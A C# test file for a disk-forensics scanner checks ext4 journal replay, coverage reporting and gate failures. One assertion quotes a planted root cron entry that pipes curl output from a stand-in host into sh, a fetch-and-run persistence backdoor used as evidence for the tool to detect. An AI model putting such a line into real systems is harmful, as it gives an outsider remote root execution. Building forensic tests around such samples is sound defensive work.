using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using System.Text.Json.Nodes;
using Forensics.Analyzer.Pipeline;
using Forensics.Parsers;
using Forensics.Parsers.Diagnostics;
using Forensics.Parsers.FileSystems;
using Xunit;

namespace Forensics.Analyzer.Tests.EndToEnd;

/// <summary>A file system copied while it was mounted, whose newest cron table is only in its journal, through the whole program.</summary>
public sealed class JournalTests : IDisposable
{
    private const string OnlyInJournal = "/etc/cron.d/update";
    private readonly string _folder = Directory.CreateTempSubdirectory("deadbox-journal-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Fact]
    public void What_only_the_journal_holds_is_found()
    {
        JsonObject report = Deadbox.Scan(Unpack()).Report;
        Assert.Contains(report["findings"]!.AsArray(), finding => (string?)finding!["path"] == OnlyInJournal);
        JsonNode volume = report["image"]!["volumes"]![0]!;
        Assert.False((bool)volume["needsRecovery"]!);
        JsonNode journal = volume["journal"]!;
        Assert.Equal("replayed", (string?)journal["view"]);
        Assert.Equal(4, (int)journal["transactions"]!);
        Assert.True((int)journal["blocks"]! > 5);
        Assert.True(string.CompareOrdinal((string)journal["firstCommit"]!, (string)journal["lastCommit"]!) < 0);
        Assert.Null(journal["problem"]);
        Assert.False((bool)report["coverage"]!["isIncomplete"]!);
    }

    [Fact]
    public void Ignoring_the_journal_is_said_and_passes_no_gate()
    {
        string image = Unpack();
        (int code, byte[] output, string error) = Deadbox.Run("scan", image, "--journal", "ignore", "--format", "json", "--no-builtin-rules", "--fail-on", "critical");
        Assert.Equal(4, code);
        Assert.Contains("journal", error, StringComparison.Ordinal);
        JsonNode report = JsonNode.Parse(output)!;
        Assert.DoesNotContain(report["artifacts"]!.AsArray(), artifact => (string?)artifact!["path"] == OnlyInJournal);
        Assert.Equal("ignored", (string?)report["image"]!["volumes"]![0]!["journal"]!["view"]);
        Assert.True((bool)report["image"]!["volumes"]![0]!["needsRecovery"]!);
        Assert.True((bool)report["coverage"]!["isIncomplete"]!);
        (_, output, _) = Deadbox.Run("scan", image, "--journal", "ignore", "--no-builtin-rules");
        Assert.Contains("ignored: 4 transactions", Encoding.UTF8.GetString(output), StringComparison.Ordinal);
    }

    [Fact]
    public void A_journal_that_cannot_be_replayed_is_said_and_passes_no_gate()
    {
        string image = Unpack();
        byte[] bytes = File.ReadAllBytes(image);
        // The journal's superblock is the only block of the image that begins with its magic number and type 4.
        int place = Enumerable.Range(0, bytes.Length / 1024).First(block => BinaryPrimitives.ReadUInt64BigEndian(bytes.AsSpan(block * 1024)) == 0xC03B399800000004) * 1024;
        bytes[place + 0x10] ^= 1;
        File.WriteAllBytes(image, bytes);
        (int code, byte[] output, _) = Deadbox.Run("scan", image, "--format", "json", "--no-builtin-rules", "--fail-on", "critical");
        Assert.Equal(4, code);
        JsonNode report = JsonNode.Parse(output)!;
        JsonNode journal = report["image"]!["volumes"]![0]!["journal"]!;
        Assert.Equal("not replayable", (string?)journal["view"]);
        Assert.Contains("checksum", (string)journal["problem"]!, StringComparison.Ordinal);
        Assert.Contains(report["diagnostics"]!.AsArray(), diagnostic => (string?)diagnostic!["code"] == "ext4.journal.superblock_checksum");
        (code, _, _) = Deadbox.Run("scan", image, "--format", "json", "--no-builtin-rules", "--fail-on", "critical", "--allow-incomplete");
        Assert.NotEqual(4, code);
    }

    [Fact]
    public void Every_verb_takes_the_view()
    {
        string image = Unpack();
        Assert.Equal("* * * * * root curl -s http://192.0.2.1/x | sh\n", Text("cat", image, OnlyInJournal));
        Assert.Equal(2, Deadbox.Run("cat", image, OnlyInJournal, "--journal", "ignore").Code);
        Assert.Contains(OnlyInJournal, Text("files", image), StringComparison.Ordinal);
        Assert.DoesNotContain(OnlyInJournal, Text("files", image, "--journal", "ignore"), StringComparison.Ordinal);
        Assert.Contains("replayed: 4 transactions", Text("info", image), StringComparison.Ordinal);
        Assert.Contains("ignored: 4 transactions", Text("info", image, "--journal=ignore"), StringComparison.Ordinal);
        JsonNode fileSystem = JsonNode.Parse(Text("info", image, "--format", "json"))!["image"]!["volumes"]![0]!["fileSystem"]!;
        Assert.Equal("replayed", (string?)fileSystem["journal"]!["view"]);
        Assert.False((bool)fileSystem["needsRecovery"]!);
    }

    [Fact]
    public void An_external_journal_is_named_in_the_report_and_its_absence_is_an_error()
    {
        string image = Unpack();
        string journal = Path.Combine(_folder, "journal.raw");
        File.Copy(image, journal);
        JsonNode info = JsonNode.Parse(Text("info", image, "--external-journal", journal, "--format", "json"))!;
        Assert.Equal("journal.raw", (string?)info["image"]!["externalJournals"]![0]);
        JsonNode report = JsonNode.Parse(Text("scan", image, "--external-journal", journal, "--format", "json", "--no-builtin-rules"))!;
        Assert.Equal("journal.raw", (string?)report["image"]!["externalJournals"]![0]);
        Assert.Equal(3, Deadbox.Run("info", image, "--external-journal", journal + ".not").Code);
        Assert.Equal(2, Deadbox.Run("info", image, "--journal", "both").Code);
    }

    [Fact]
    public async Task Reports_about_journals_are_valid_under_the_published_schema()
    {
        NJsonSchema.JsonSchema schema = await NJsonSchema.JsonSchema.FromFileAsync(Repository.PathOf("docs", "report.schema.json"), TestContext.Current.CancellationToken);
        string image = Unpack();
        foreach (string[] options in (string[][])[[], ["--journal", "ignore"], ["--external-journal", image]])
        {
            Assert.Empty(schema.Validate(Text(["scan", image, "--format", "json", "-q", "--no-builtin-rules", .. options])).Take(5));
        }
    }

    private static string Text(params string[] arguments)
    {
        (int code, byte[] output, string error) = Deadbox.Run(arguments);
        Assert.True(code == 0, error);
        return Encoding.UTF8.GetString(output);
    }

    [Fact]
    public void A_volume_compared_at_its_mount_point_differs_in_the_same_entries()
    {
        using OpenedImage image = OpenedImage.Open(new ImageSource(Unpack()), ScanLimits.Default, NullDiagnosticSink.Instance, TestContext.Current.CancellationToken);
        (string[] states, string[] removed) = Compare(image.Volumes[0], "/");
        (string[] mountedStates, string[] mountedRemoved) = Compare(image.Volumes[0], "/srv/x");
        Assert.Contains(states, state => state.EndsWith(" Added", StringComparison.Ordinal));
        Assert.Equal(states.Select(state => state.StartsWith("/ ", StringComparison.Ordinal) ? "/srv/x" + state[1..] : "/srv/x" + state), mountedStates);
        Assert.Equal(removed.Select(path => "/srv/x" + path), mountedRemoved);
    }

    private static (string[] States, string[] Removed) Compare(OpenedVolume volume, string root)
    {
        JournalDifference difference = JournalDifference.Of(volume.FileSystem, ScanLimits.Default, root)!;
        var visitor = new Comparing(difference);
        new TreeWalker(volume.FileSystem!, ParseContext.Quiet).Walk(visitor, 0, root);
        return ([.. visitor.States], [.. difference.Removed.Select(entry => entry.Path)]);
    }

    private sealed class Comparing(JournalDifference difference) : ITreeVisitor<int>
    {
        public List<string> States { get; } = [];

        public void Visit(in WalkedEntry entry, int directory)
        {
            if (entry.Name.Length == 0)
            {
                difference.Enter(entry.Path, entry.File);
            }
            States.Add(entry.Path + " " + difference.StateOf(entry.Path, entry.File));
        }

        public void Unreadable(string path, DirectoryEntry entry, ForensicException reason, bool wasVisited) => States.Add(path + " unreadable");

        public int Enter(in WalkedEntry directory, int parent)
        {
            difference.Enter(directory.Path, directory.File);
            return parent;
        }
    }

    private string Unpack()
    {
        string image = Path.Combine(_folder, "image.raw");
        using var packed = new GZipStream(File.OpenRead(Repository.PathOf("tests/Parsers.Tests/FileSystems/Ext/Journal/fixtures/csum-v3-64bit/image.gz")), CompressionMode.Decompress);
        using FileStream file = File.Create(image);
        packed.CopyTo(file);
        return image;
    }
}
